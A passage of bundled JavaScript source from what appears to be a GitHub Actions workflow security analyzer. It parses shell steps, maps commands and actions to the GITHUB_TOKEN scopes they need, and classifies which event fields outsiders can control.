  { action: "typos-cli/typos", note: "sets up a tool or moves files; no token writes" },
  { action: "crate-ci/typos", note: "sets up a tool or moves files; no token writes" },
  { action: "ludeeus/action-shellcheck", note: "sets up a tool or moves files; no token writes" },
  { action: "hadolint/hadolint-action", note: "sets up a tool or moves files; no token writes" },
  { action: "aquasecurity/setup-trivy", note: "sets up a tool or moves files; no token writes" },
  { action: "anchore/sbom-action/download-syft", note: "sets up a tool or moves files; no token writes" }
];
var TOKEN_SCOPE_COMMANDS = [
  { command: /\bgit\s+push\b/, scopes: ["contents"], note: "pushes with the checkout credentials", source: "https://git-scm.com/docs/git-push" },
  { command: /\bgh\s+release\b/, scopes: ["contents"], note: "creates and edits releases", source: "https://cli.github.com/manual/gh_release" },
  { command: /\bgh\s+(pr|issue)\s+comment\b/, scopes: ["pull-requests", "issues"], note: "pull request comments are issue comments: either scope can be what the job relies on", source: "https://cli.github.com/manual/gh_pr_comment" },
  { command: /\bgh\s+pr\s+(create|merge|edit|review|close|reopen|ready)\b/, scopes: ["pull-requests", "contents"], note: "writes pull requests (merging writes contents)", source: "https://cli.github.com/manual/gh_pr" },
  { command: /\bgh\s+pr\b/, scopes: [], note: "other pull request commands read", source: "https://cli.github.com/manual/gh_pr" },
  { command: /\bgh\s+issue\s+(create|edit|close|reopen|transfer|lock|unlock|pin|delete)\b/, scopes: ["issues", "pull-requests"], note: "writes issues", source: "https://cli.github.com/manual/gh_issue" },
  { command: /\bgh\s+issue\b/, scopes: [], note: "other issue commands read", source: "https://cli.github.com/manual/gh_issue" },
  { command: /\bgh\s+label\b/, scopes: ["issues"], note: "writes labels", source: "https://cli.github.com/manual/gh_label" },
  { command: /\bgh\s+(workflow\s+run|run\s+(rerun|cancel|delete))\b/, scopes: ["actions"], note: "starts, reruns, cancels or deletes workflow runs", source: "https://cli.github.com/manual/gh_workflow_run" },
  { command: /\bgh\s+cache\s+delete\b/, scopes: ["actions"], note: "deletes Actions caches", source: "https://cli.github.com/manual/gh_cache_delete" },
  { command: /\bgh\s+attestation\s+verify\b/, scopes: [], note: "reads attestations", source: "https://cli.github.com/manual/gh_attestation_verify" },
  { command: /\bgh\s+(api|secret|variable|repo|project|gist|ruleset)\b/, scopes: "unknown", note: "arbitrary endpoints", source: "https://cli.github.com/manual/gh_api" },
  { command: /\bdocker\s+push\b|ghcr\.io|docker\.pkg\.github\.com|--push\b/, scopes: ["packages"], note: "pushes to GitHub Packages", source: "https://docs.github.com/en/packages/working-with-a-github-packages-registry/working-with-the-container-registry" },
  { command: /\b(npm|pnpm|yarn)\s+(npm\s+)?publish\b/, scopes: ["packages", "id-token"], note: "publishes (GitHub Packages, or npm with provenance)", source: "https://docs.npmjs.com/generating-provenance-statements" },
  { command: /\bcosign\s+(sign|attest)\b|ACTIONS_ID_TOKEN_REQUEST|\bgetIDToken\b|\bsigstore\b/, scopes: ["id-token"], note: "keyless signing with the OIDC token", source: "https://docs.sigstore.dev/cosign/signing/overview/" },
  { command: /\bsemantic-release\b/, scopes: ["contents", "issues", "pull-requests", "id-token"], note: "tags, releases, comments on issues and pull requests, publishes", source: "https://semantic-release.gitbook.io/semantic-release/recipes/ci-configurations/github-actions" },
  { command: /\b(twine|uv|poetry|hatch|flit|pdm)\s+(upload|publish)\b|\bcargo\s+publish\b|\bgem\s+push\b/, scopes: ["id-token"], note: "registry uploads (trusted publishing)", source: "https://docs.pypi.org/trusted-publishers/" },
  { command: /api\.github\.com|GITHUB_TOKEN|GH_TOKEN|github\.token/, scopes: "any-use", note: "the token used by something not recognised", source: "https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication" }
];

// src/workflow/data/pinning.ts
var TAG_PINNED_WORKFLOWS = [
  { action: "slsa-framework/slsa-github-generator/.github/workflows/*", ref: /^v\d+\.\d+\.\d+$/, note: "the SLSA builders verify they were called at a vX.Y.Z tag", source: "https://github.com/slsa-framework/slsa-github-generator#referencing-slsa-builders-and-generators" }
];
var GITHUB_ACTION_OWNERS = [
  { owner: "actions", note: "GitHub's official actions", source: "https://github.com/actions" },
  { owner: "github", note: "actions published by GitHub (CodeQL and others)", source: "https://github.com/github" }
];

// src/workflow/shell.ts
function memo(compute) {
  const cache = /* @__PURE__ */ new Map();
  return (script) => {
    let value = cache.get(script);
    if (value === void 0) {
      value = compute(script);
      if (cache.size >= 2e4) cache.clear();
      cache.set(script, value);
    }
    return value;
  };
}
var commands = memo(splitCommands);
function splitCommands(script) {
  const out = [];
  let start = 0;
  let quote = null;
  const push = (end) => {
    const raw = script.slice(start, end);
    const lead = raw.length - raw.trimStart().length;
    const text = raw.trim();
    if (text) out.push({ text, start: start + lead, end: start + lead + text.length });
  };
  for (let i = 0; i < script.length; i += 1) {
    const c = script[i];
    if (quote) {
      if (c === "\\" && quote === '"') i += 1;
      else if (c === quote) quote = null;
      continue;
    }
    if (c === "\\") {
      i += 1;
      continue;
    }
    if (c === "'" || c === '"') {
      quote = c;
      continue;
    }
    if (c === "#" && (i === 0 || /\s/.test(script[i - 1]))) {
      push(i);
      const newline = script.indexOf("\n", i);
      i = newline === -1 ? script.length : newline;
      start = i + 1;
      continue;
    }
    if (c === "\n" || c === ";" || c === "|" || c === "&") {
      push(i);
      if ((c === "|" || c === "&") && script[i + 1] === c) i += 1;
      start = i + 1;
    }
  }
  push(script.length);
  return out;
}
function words(text) {
  const out = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let c = text.charCodeAt(i);
    if (c === 32 || c === 9 || c === 10 || c === 13) {
      i += 1;
      continue;
    }
    const start = i;
    let word = "";
    let plainFrom = i;
    while (i < n) {
      c = text.charCodeAt(i);
      if (c === 32 || c === 9 || c === 10 || c === 13) break;
      if (c === 34 || c === 39) {
        word += text.slice(plainFrom, i);
        let close = text.indexOf(c === 34 ? '"' : "'", i + 1);
        while (c === 34 && close > 0 && text.charCodeAt(close - 1) === 92) close = text.indexOf('"', close + 1);
        const end = close === -1 ? n : close;
        word += text.slice(i + 1, end);
        i = close === -1 ? n : close + 1;
        plainFrom = i;
        continue;
      }
      i += 1;
    }
    word += text.slice(plainFrom, i);
    out.push({ word, start });
  }
  return out;
}
function commandWords(text) {
  const all = words(text);
  let i = 0;
  while (i < all.length) {
    const word = all[i].word;
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(word) || ["sudo", "env", "time", "exec", "nohup", "command", "then", "do", "else", "{", "(", "!"].includes(word)) i += 1;
    else if (word === "sudo" || /^-/.test(word)) i += 1;
    else break;
  }
  return all.slice(i);
}
var SCRIPT_RUNNERS = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "source", ".", "pwsh", "powershell"]);
var scriptCalls = memo(findScriptCalls);
function findScriptCalls(script) {
  const out = [];
  for (const command of commands(script)) {
    const list = commandWords(command.text);
    const first = list[0];
    if (!first) continue;
    let target2;
    if (SCRIPT_RUNNERS.has(first.word)) target2 = list.slice(1).find((w) => !w.word.startsWith("-"));
    else if (/^\.{1,2}\//.test(first.word)) target2 = first;
    if (!target2) continue;
    const path6 = target2.word;
    if (!/^[\w./-]+$/.test(path6) || path6.includes("..") && !path6.startsWith("./")) continue;
    if (!/\.(sh|bash|ps1)$/.test(path6) && !/^\.\//.test(path6)) continue;
    out.push({ path: path6, start: command.start + target2.start, end: command.start + target2.start + target2.word.length });
  }
  return out;
}
var NPM_LIKE = /* @__PURE__ */ new Set(["npm", "yarn", "pnpm", "bun"]);
var NPM_SAFE = /* @__PURE__ */ new Set(["--version", "-v", "version", "config", "whoami", "view", "info", "help", "login", "logout", "set", "cache", "ls", "list", "outdated", "audit", "pack", "publish"]);
var ALWAYS_EXEC = new Set(BUILD_TOOLS.map((entry2) => entry2.tool));
var codeExecutions = memo(findCodeExecutions);
function findCodeExecutions(script) {
  const out = [];
  for (const command of commands(script)) {
    const list = commandWords(command.text);
    const first = list[0];
    if (!first) continue;
    const name = first.word.replace(/^.*\//, "");
    const second = list[1]?.word ?? "";
    let tool = null;
    if (/^\.{1,2}\//.test(first.word)) tool = first.word;
    else if (NPM_LIKE.has(name)) {
      if (!NPM_SAFE.has(second) && !(name === "npm" && second === "ci" && /--ignore-scripts/.test(command.text))) tool = `${name}${second ? ` ${second}` : ""}`;
      if (/--ignore-scripts/.test(command.text) && ["install", "i", "ci", "add"].includes(second)) tool = null;
    } else if (name === "npx" || name === "pnpx" || name === "bunx") tool = `${name} ${second}`.trim();
    else if (ALWAYS_EXEC.has(name)) tool = name;
    else if (name === "gradlew" || name === "mvnw") tool = name;
    else if (/^pip[0-9.]*$/.test(name) || /^python[0-9.]*$/.test(name) && second === "-m" && /^pip/.test(list[2]?.word ?? "")) {
      const rest = list.slice(name.startsWith("pip") ? 1 : 3).map((w) => w.word);
      if (rest[0] === "install" && rest.some((w) => w === "." || w.startsWith("./") || w === "-e" || w === "--editable" || w === "-r" || w.startsWith("-r") || w === "--requirement")) tool = `${name} install`;
    } else if (/^python[0-9.]*$/.test(name) || name === "py") {
      const target2 = list.slice(1).find((w) => !w.word.startsWith("-"));
      if (second === "-m" && list[2] && !/^(pip|venv|json\.tool|http\.server)$/.test(list[2].word)) tool = `${name} -m ${list[2].word}`;
      else if (target2 && /\.py$/.test(target2.word)) tool = `${name} ${target2.word}`;
    } else if (name === "cargo" && ["build", "test", "run", "check", "clippy", "bench", "doc", "install"].includes(second)) {
      if (!(second === "install" && !list.some((w) => w.word === "--path"))) tool = `cargo ${second}`;
    } else if (name === "go" && ["generate", "run", "test", "build", "install", "vet"].includes(second)) tool = `go ${second}`;
    else if ((name === "docker" || name === "podman" || name === "buildah") && (second === "build" || second === "buildx" || second === "compose")) tool = `${name} ${second}`;
    else if (name === "docker-compose") tool = name;
    else if (name === "bundle" && ["install", "exec"].includes(second)) tool = `bundle ${second}`;
    else if (name === "dotnet" && ["build", "test", "run", "restore", "pack", "publish", "msbuild"].includes(second)) tool = `dotnet ${second}`;
    else if (SCRIPT_RUNNERS.has(name) && list[1] && !list[1].word.startsWith("-") && /^[\w./-]+$/.test(list[1].word)) tool = `${name} ${list[1].word}`;
    if (tool) out.push({ tool, start: command.start + first.start, end: command.start + first.start + first.word.length });
  }
  return out;
}
var ENV_FILE_PATTERN = /(?:\$\{?|\$env:|%|env\.)(GITHUB_(?:ENV|PATH|OUTPUT|STEP_SUMMARY|STATE))\b/i;
var envFileWrites = memo(findEnvFileWrites);
function findEnvFileWrites(script) {
  const out = [];
  let lineStart = 0;
  for (let i = 0; i <= script.length; i += 1) {
    if (i < script.length && (script[i] !== "\n" || script[i - 1] === "\\" || script[i - 1] === "`")) continue;
    const raw = script.slice(lineStart, i);
    const lead = raw.length - raw.trimStart().length;
    const text = raw.trim();
    const start = lineStart + lead;
    lineStart = i + 1;
    if (!text || text.startsWith("#")) continue;
    const match = ENV_FILE_PATTERN.exec(text);
    if (!match) continue;
    const before = text.slice(0, match.index);
    const isWrite = />>?\s*["']?$/.test(before) || /\btee\b[^|]*$/.test(before) || /\b(Out-File|Add-Content|Set-Content)\b/i.test(text) || /\[IO\.File\]::Append/i.test(text);
    if (!isWrite) continue;
    out.push({ file: match[1].toUpperCase(), command: { text, start, end: start + text.length } });
  }
  return out;
}
function expandedVariables(text) {
  const out = [];
  for (const match of text.matchAll(/\$\{([A-Za-z_][A-Za-z0-9_]*)[^}]*\}|\$env:([A-Za-z_][A-Za-z0-9_]*)|\$([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%/g)) {
    const name = match[1] ?? match[2] ?? match[3] ?? match[4];
    out.push({ name, start: match.index, end: match.index + match[0].length });
  }
  return out;
}
function logicalLines(text) {
  const lines2 = [];
  let pieces = [];
  let current = "";
  let pieceStart = 0;
  const flush = (end) => {
    pieces.push(current.length, pieceStart);
    current += text.slice(pieceStart, end);
  };
  for (let i = 0; i <= text.length; i += 1) {
    if (i === text.length) {
      flush(i);
      lines2.push(logicalLine(current, pieces));
      break;
    }
    const code = text.charCodeAt(i);
    if (code === 10) {
      flush(i);
      lines2.push(logicalLine(current, pieces));
      current = "";
      pieces = [];
      pieceStart = i + 1;
    } else if ((code === 92 || code === 96) && text.charCodeAt(i + 1) === 10) {
      flush(i);
      i += 1;
      pieceStart = i + 1;
    }
  }
  return lines2;
}
function logicalLine(text, pieces) {
  return {
    text,
    offset(index) {
      let k = 0;
      while (k + 2 < pieces.length && pieces[k + 2] <= index) k += 2;
      return pieces[k + 1] + index - pieces[k];
    }
  };
}

// src/workflow/model.ts
var MAX_SCRIPT_BYTES = 256 * 1024;
var MAX_SCRIPTS = 500;
function buildModel(files, workspace) {
  const model = { workflows: [], actions: [], scripts: /* @__PURE__ */ new Map(), actionsByDir: /* @__PURE__ */ new Map() };
  for (const file of files.files) {
    try {
      if (file.kind === "workflow") model.workflows.push(buildWorkflow(file));
      else {
        const action = buildAction(file);
        model.actions.push(action);
        model.actionsByDir.set(path.posix.dirname(file.path), action);
      }
    } catch {
    }
  }
  if (workspace) readScripts(model, workspace);
  return model;
}
function readScripts(model, workspace) {
  const steps = [];
  for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps);
  for (const action of model.actions) steps.push(...action.runs?.steps ?? []);
  const failed = /* @__PURE__ */ new Set();
  for (const step of steps) {
    if (!step.run || /^(pwsh|powershell|cmd|python)/.test(step.effectiveShell)) continue;
    for (const call of scriptCalls(step.run.value)) {
      const relative = scriptPath(step, call.path);
      if (!relative || failed.has(relative)) continue;
      const existing = model.scripts.get(relative);
      if (existing) {
        if (!existing.callers.includes(step)) existing.callers.push(step);
        continue;
      }
      if (model.scripts.size >= MAX_SCRIPTS) return;
      const read = workspace.readText(relative, MAX_SCRIPT_BYTES);
      if (!read.ok) {
        failed.add(relative);
        continue;
      }
      model.scripts.set(relative, { path: relative, text: read.text, callers: [step] });
    }
  }
}
function scriptPath(step, called) {
  const base = step.workingDirectory?.value ?? step.job?.defaults.workingDirectory?.value ?? step.job?.workflow.defaults.workingDirectory?.value ?? "";
  if (base.includes("$") || called.includes("$")) return null;
  const joined = path.posix.normalize(path.posix.join(base.replace(/^\.\//, ""), called));
  if (joined.startsWith("..") || path.posix.isAbsolute(joined)) return null;
  return joined;
}
var workflowModelFact = defineFact(
  "workflow.model",
  async (ctx) => {
    const files = await ctx.get(workflowFilesFact);
    if (!files.known) return files;
    return known(buildModel(files.value, ctx.workspace));
  },
  { scope: "workflow-group" }
);
function nodeLocation(doc, node) {
  return locate(doc.file, node);
}
function expressionLocation(doc, expression) {
  return locate(doc.file, [expression.start, expression.end]);
}
function strLocation(doc, str2, start = 0, end = str2.value.length) {
  if (start === 0 && end >= str2.value.length) return locate(doc.file, str2.node);
  return locate(doc.file, sourceSpan(doc.file, str2, start, end));
}
function scriptLocation(script, start, end) {
  const position = (offset) => {
    let line = 1;
    let lineStart = 0;
    for (let i = script.text.indexOf("\n"); i !== -1 && i < offset; i = script.text.indexOf("\n", i + 1)) {
      line += 1;
      lineStart = i + 1;
    }
    return { line, column: offset - lineStart + 1 };
  };
  const a = position(start);
  const b = position(Math.max(start, end - 1));
  return { path: script.path, startLine: a.line, startColumn: a.column, endLine: b.line, endColumn: b.column };
}
function stepDoc(step) {
  return step.job ? step.job.workflow : step.action;
}

// src/workflow/kit.ts
var walks = new ObjectMemo();
function walkOf(model) {
  let walk = walks.get(model);
  if (!walk) {
    const jobs = model.workflows.flatMap((workflow) => workflow.jobs);
    const steps = [...jobs.flatMap((job) => job.steps), ...model.actions.flatMap((action) => action.runs?.steps ?? [])];
    walk = { workflows: model.workflows, jobs, steps, actions: model.actions };
    walks.set(model, walk);
  }
  return walk;
}
function defineWorkflowRule(spec) {
  const { model: onModel, workflow: onWorkflow, job: onJob, step: onStep, action: onAction, finish, needs, ...rule } = spec;
  return {
    ...rule,
    needs: [workflowModelFact, ...needs ?? []],
    evaluate(ctx) {
      const model = ctx.need(workflowModelFact);
      const visit = { ...ctx, model };
      const results = [];
      const add = (out) => {
        if (!out) return;
        if (Array.isArray(out)) results.push(...out);
        else results.push(out);
      };
      const walk = walkOf(model);
      if (onModel) add(onModel(model, visit));
      if (onWorkflow) for (const workflow of walk.workflows) add(onWorkflow(workflow, visit));
      if (onJob) for (const job of walk.jobs) add(onJob(job, visit));
      if (onStep) for (const step of walk.steps) add(onStep(step, visit));
      if (onAction) for (const action of walk.actions) add(onAction(action, visit));
      return finish ? finish(results) : results;
    }
  };
}
function input(step, name) {
  return step.with.get(name)?.value ?? void 0;
}
function usesAction(step, ...names) {
  const uses = step.uses;
  if (!uses || uses.kind !== "remote") return false;
  return names.some((name) => name.toLowerCase() === uses.name);
}
function stepOwner(step) {
  return step.job ? `job ${step.job.id}` : "composite action";
}
function siblingSteps(step) {
  return step.job ? step.job.steps : step.action?.runs?.steps ?? [];
}

// src/workflow/contexts.ts
var ARBITRARY_EVENT_PATHS = [
  "issue.title",
  "issue.body",
  "pull_request.title",
  "pull_request.body",
  "pull_request.head.ref",
  "pull_request.head.label",
  "pull_request.head.repo.default_branch",
  "pull_request.head.repo.description",
  "pull_request.head.repo.homepage",
  "comment.body",
  "review.body",
  "review_comment.body",
  "discussion.title",
  "discussion.body",
  "pages.*.page_name",
  "pages.*.title",
  "commits.*.message",
  "commits.*.author.name",
  "commits.*.author.email",
  "commits.*.committer.name",
  "commits.*.committer.email",
  "head_commit.message",
  "head_commit.author.name",
  "head_commit.author.email",
  "head_commit.committer.name",
  "head_commit.committer.email",
  "workflow_run.head_branch",
  "workflow_run.display_title",
  "workflow_run.head_commit.message",
  "workflow_run.head_commit.author.name",
  "workflow_run.head_commit.author.email",
  "workflow_run.head_commit.committer.name",
  "workflow_run.head_commit.committer.email",
  "workflow_run.head_repository.description",
  "workflow_run.pull_requests.*.head.ref",
  "check_suite.head_branch",
  "check_run.check_suite.head_branch",
  "merge_group.head_commit.message",
  "merge_group.head_commit.author.name",
  "merge_group.head_commit.author.email",
  "changes.title.from",
  "changes.body.from",
  "issue.pull_request.title",
  "pull_request.head.repo.topics.*",
  "blocked_user.name",
  "blocked_user.email",
  "sender.name",
  "sender.email"
].map((path6) => path6.split("."));
var STRUCTURED_EVENT_PATHS = [
  "client_payload",
  "inputs",
  "release.name",
  "release.body",
  "release.tag_name",
  "label.name",
  "label.description",
  "issue.labels.*.name",
  "pull_request.labels.*.name",
  "milestone.title",
  "milestone.description",
  "ref",
  "base_ref",
  "workflow_run.name",
  "workflow_run.path",
  "deployment.payload",
  "deployment.environment",
  "deployment.description",
  "deployment_status.description",
  "deployment_status.environment",
  "project_card.note",
  "issue.assignee.name",
  "pull_request.head.repo.name"
].map((path6) => path6.split("."));
var FIXED_LEAVES = /* @__PURE__ */ new Set([
  "id",
  "node_id",
  "number",
  "sha",
  "head_sha",
  "base_sha",
  "merge_commit_sha",
  "before",
  "after",
  "html_url",
  "url",
  "api_url",
  "diff_url",
  "patch_url",
  "issue_url",
  "created_at",
  "updated_at",
  "closed_at",
  "merged_at",
  "pushed_at",
  "state",
  "draft",
  "merged",
  "locked",
  "login",
  "type",
  "site_admin",
  "author_association",
  "action",
  "private",
  "fork",
  "full_name",
  "owner",
  "run_id",
  "run_number",
  "run_attempt",
  "conclusion",
  "status",
  "event",
  "additions",
  "deletions",
  "changed_files",
  "commits",
  "comments",
  "forced",
  "created",
  "deleted",
  "visibility",
  "default_branch",
  "size",
  "installation",
  "workflow_id",
  "check_suite_id",
  "timestamp",
  "distinct",
  "mergeable",
  "rebaseable",
  "mergeable_state",
  "avatar_url",
  "gravatar_id",
  "clone_url",
  "ssh_url",
  "git_url",
  "svn_url",
  "archived",
  "disabled",
  "language",
  "forks_count",
  "stargazers_count",
  "watchers_count",
  "open_issues_count",
  "has_issues",
  "is_template",
  "user_view_type",
  "auto_merge",
  "maintainer_can_modify",
  "color",
  "default"
]);
function matchesPattern(segments, offset, pattern) {
  if (segments.length - offset < pattern.length) return false;
  for (let i = 0; i < pattern.length; i += 1) {
    if (pattern[i] !== "*" && pattern[i] !== segments[offset + i] && segments[offset + i] !== "*") return false;
  }
  return true;
}
var ARBITRARY_GITHUB = /* @__PURE__ */ new Set(["head_ref"]);
var FIXED_GITHUB = /* @__PURE__ */ new Set([
  "sha",
  "run_id",
  "run_number",
  "run_attempt",
  "job",
  "action",
  "action_path",
  "action_ref",
  "action_repository",
  "action_status",
  "actor",
  "actor_id",
  "triggering_actor",
  "repository",
  "repository_id",
  "repository_owner",
  "repository_owner_id",
  "repositoryurl",
  "retention_days",
  "server_url",
  "api_url",
  "graphql_url",
  "workspace",
  "event_name",
  "event_path",
  "env",
  "path",
  "output",
  "ref_type",
  "ref_protected",
  "workflow",
  "workflow_ref",
  "workflow_sha",
  "job_workflow_sha",
  "secret_source",
  "token",
  "state",
  "step_summary",
  "repository_visibility",
  "base_ref",
  "ref",
  "ref_name"
]);
function capabilityOf(path6) {
  const segments = path6.split(".");
  const root = segments[0];
  if (root !== "github") return "unknown";
  if (segments.length === 1) return "arbitrary";
  const second = segments[1];
  if (second === "event") {
    if (segments.length === 2) return "arbitrary";
    for (const pattern of ARBITRARY_EVENT_PATHS) if (matchesPattern(segments, 2, pattern)) return "arbitrary";
    const leaf = segments[segments.length - 1];
    if (FIXED_LEAVES.has(leaf)) return "fixed";
    if (["repository", "organization", "installation", "enterprise"].includes(segments[2]) || segments[2] === "pull_request" && segments[3] === "base") return "fixed";
    for (const pattern of STRUCTURED_EVENT_PATHS) if (matchesPattern(segments, 2, pattern)) return "structured";
    if (["pull_request", "issue", "comment", "review", "review_comment", "discussion", "head_commit", "commits", "workflow_run", "pages", "release", "client_payload"].includes(segments[segments.length - 1])) return "arbitrary";
    if (segments[segments.length - 1] === "head") return "arbitrary";
    return "unknown";
  }
  if (ARBITRARY_GITHUB.has(second)) return "arbitrary";
  if (FIXED_GITHUB.has(second)) return "fixed";
  return "unknown";
}
var FORK_REACHABLE_EVENTS = new Set(OUTSIDER_EVENTS.map((entry2) => entry2.event));
var PRIVILEGED_UNTRUSTED_EVENTS = new Set(OUTSIDER_EVENTS.filter((entry2) => entry2.privileged).map((entry2) => entry2.event));
var CARRIERS = {
  issue: ["issues", "issue_comment"],
  comment: ["issue_comment", "pull_request_review_comment", "commit_comment", "discussion_comment"],
  pull_request: ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"],
  review: ["pull_request_review"],
  discussion: ["discussion", "discussion_comment"],
  pages: ["gollum"],
  head_commit: ["push"],
  commits: ["push"],
  workflow_run: ["workflow_run"],
  check_suite: ["check_suite"],
  check_run: ["check_run"],
  merge_group: ["merge_group"],
  release: ["release"],
  client_payload: ["repository_dispatch"],
  label: ["label", "issues", "pull_request", "pull_request_target", "discussion"],
  changes: ["issues", "pull_request", "pull_request_target", "issue_comment", "discussion", "discussion_comment", "pull_request_review_comment"]
};
function eventsCarrying(path6) {
  if (path6 === "github.head_ref") return /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
  if (!path6.startsWith("github.event.")) return null;
  const carriers = CARRIERS[path6.split(".")[2] ?? ""];
  return carriers ? new Set(carriers) : null;
}

// src/workflow/analysis/triggers.ts
function eventNames(workflow) {
  return new Set(workflow.triggers.map((trigger) => trigger.event));
}
function privilegedUntrustedEvents(workflow, model) {
  const memo2 = model ? privilegedMemo.get(workflow) : void 0;
  if (memo2) return memo2;
  const out = computePrivileged(workflow, model);
  if (model) privilegedMemo.set(workflow, out);
  return out;
}
var privilegedMemo = new ObjectMemo();
function computePrivileged(workflow, model) {
  const out = [];
  for (const trigger of workflow.triggers) {
    if (!PRIVILEGED_UNTRUSTED_EVENTS.has(trigger.event)) continue;
    if (trigger.event === "workflow_run" && model && !workflowRunReachable(trigger.filters.get("workflows") ?? [], model)) continue;
    if (!out.includes(trigger.event)) out.push(trigger.event);
  }
  return out;
}
function workflowRunReachable(upstreamNames, model) {
  if (upstreamNames.length === 0) return true;
  for (const name of upstreamNames) {
    const upstream = model.workflows.filter((wf) => (wf.name?.value ?? wf.path.replace(/^.*\//, "")) === name);
    if (upstream.length === 0) return true;
    if (upstream.some((wf) => wf.triggers.some((t) => FORK_REACHABLE_EVENTS.has(t.event)))) return true;
  }
  return false;
}
function forkReachable(workflow) {
  return workflow.triggers.some((trigger) => FORK_REACHABLE_EVENTS.has(trigger.event));
}

// src/workflow/analysis/token.ts
var ALL_SCOPES = [
  "actions",
  "attestations",
  "checks",
  "contents",
  "deployments",
  "discussions",
  "id-token",
  "issues",
  "models",
  "packages",
  "pages",
  "pull-requests",
  "repository-projects",
  "security-events",
  "statuses"
];
function tokenGrant(job) {
  const permissions = job.permissions ?? job.workflow.permissions;
  const source = job.permissions ? "job" : job.workflow.permissions ? "workflow" : "default";
  const grant = { source, writeAll: false, writeScopes: [], idToken: false };
  if (!permissions || permissions.form === "expression" || permissions.form === "invalid") {
    grant.source = "default";
    return grant;
  }
  grant.permissions = permissions;
  if (permissions.form === "write-all") {
    grant.writeAll = true;
    grant.writeScopes = [...ALL_SCOPES];
    grant.idToken = true;
    return grant;
  }
  for (const [scope, entry2] of permissions.scopes) if (entry2.level === "write") grant.writeScopes.push(scope);
  grant.idToken = permissions.scopes.get("id-token")?.level === "write";
  return grant;
}
var jobStringsCache = new ObjectMemo();
function jobExpressionStrings(job) {
  const cached = jobStringsCache.get(job);
  if (cached) return cached;
  const out = [];
  const seen = /* @__PURE__ */ new Set();
  const add = (str2) => {
    if (str2 && str2.expressions.length > 0 && !seen.has(str2)) {
      seen.add(str2);
      out.push(str2);
    }
  };
  const addAll = (map) => {
    for (const entry2 of map.values()) add(entry2.value);
  };
  addAll(job.env);
  addAll(job.with);
  addAll(job.outputs);
  if (job.secrets) addAll(job.secrets.entries);
  for (const container of [job.container, ...job.services]) {
    if (!container) continue;
    add(container.image);
    add(container.credentials?.username);
    add(container.credentials?.password);
    addAll(container.env);
    add(container.options);
  }
  add(job.if);
  for (const step of job.steps) {
    add(step.if);
    add(step.run);
    addAll(step.env);
    addAll(step.with);
    add(step.workingDirectory);
  }
  jobStringsCache.set(job, out);
  return out;
}
var secretsMemo = new ObjectMemo();
function secretsUsed(job) {
  const memo2 = secretsMemo.get(job);
  if (memo2) return memo2;
  const names = /* @__PURE__ */ new Set();
  if (job.secrets?.inherit) names.add("*");
  for (const str2 of jobExpressionStrings(job)) {
    for (const expression of str2.expressions) {
      for (const ref of contextRefs(expression.ast)) {
        if (ref.segments[0] !== "secrets") continue;
        const name = ref.segments[1];
        if (!name || name === "*") names.add("*");
        else if (name !== "github_token") names.add(name.toUpperCase());
      }
      if (!expression.ast && /\bsecrets\b/i.test(expression.body) && !/secrets\.github_token/i.test(expression.body)) names.add("*");
    }
  }
  const out = [...names];
  secretsMemo.set(job, out);
  return out;
}

// src/workflow/analysis/permission-needs.ts
var ACTION_SCOPES = new Map(TOKEN_SCOPE_ACTIONS.map((entry2) => [entry2.action, entry2.scopes]));
var TOKENLESS = actionPattern(TOKENLESS_ACTIONS);
var TOKEN_ANYWHERE = [];
var COMMAND_SCOPES = TOKEN_SCOPE_COMMANDS.map((entry2) => [entry2.command, entry2.scopes === "unknown" ? null : entry2.scopes === "any-use" ? TOKEN_ANYWHERE : entry2.scopes]);
var ANY_COMMAND = anyCommand(TOKEN_SCOPE_COMMANDS);
function tokenPassed(step) {
  for (const entry2 of [...step.with.values(), ...step.env.values()]) {
    const text = entry2.value?.value ?? "";
    if (/github\.token|secrets\.github_token/i.test(text)) return true;
  }
  return false;
}
var needsMemo = new ObjectMemo();
function scopeNeeds(job) {
  let needs = needsMemo.get(job);
  if (!needs) {
    needs = computeNeeds(job);
    needsMemo.set(job, needs);
  }
  return needs;
}
function computeNeeds(job) {
  const scopes = /* @__PURE__ */ new Set();
  const evidence = /* @__PURE__ */ new Map();
  const need = (list, why) => {
    for (const scope of list) {
      scopes.add(scope);
      if (!evidence.has(scope)) evidence.set(scope, why);
    }
  };
  if (job.uses) return { known: false, why: "it calls a reusable workflow, which receives these permissions" };
  for (const str2 of [...job.env.values()].map((e) => e.value?.value ?? "")) {
    if (/github\.token|secrets\.github_token/i.test(str2)) return { known: false, why: "the token is passed in env" };
  }
  for (const step of job.steps) {
    const uses = step.uses;
    if (uses) {
      if (uses.kind === "local") return { known: false, why: `step ${step.index + 1} runs the local action ${uses.raw.trim()}` };
      if (uses.kind === "docker") {
        if (tokenPassed(step)) return { known: false, why: `step ${step.index + 1} passes the token to ${uses.raw.trim()}` };
        continue;
      }
      if (uses.name === "actions/github-script") return { known: false, why: `step ${step.index + 1} calls the API through actions/github-script` };
      const exact = ACTION_SCOPES.get(uses.name) ?? ACTION_SCOPES.get(uses.slug ?? "");
      if (exact) {
        need(exact, uses.name);
        continue;
      }
      if (TOKENLESS.test(uses.name)) {
        if (uses.name === "gradle/actions/setup-gradle" && step.with.has("dependency-graph")) need(["contents"], `${uses.name} dependency-graph`);
        continue;
      }
      return { known: false, why: `step ${step.index + 1} uses ${uses.name}, whose token use is not known` };
    }
    if (step.run) {
      const text = step.run.value;
      const scripts = scriptCalls(text);
      if (scripts.length > 0) return { known: false, why: `step ${step.index + 1} runs ${scripts[0].path}, which may use the token (e.g. git push with the persisted checkout credentials)` };
      if (/\b(make|just|task|rake|npm run|yarn|pnpm)\b[^\n]*\b(release|publish|deploy|push|tag)\b/.test(text)) return { known: false, why: `step ${step.index + 1} runs a release task chaingate cannot see into` };
      let matched = false;
      if (!ANY_COMMAND.test(text) && ![...step.env.values()].some((e) => ANY_COMMAND.test(e.value?.value ?? ""))) continue;
      for (const [pattern, list] of COMMAND_SCOPES) {
        const match = pattern.exec(text);
        if (list === TOKEN_ANYWHERE) {
          const inEnv = [...step.env.values()].some((e) => pattern.test(e.value?.value ?? ""));
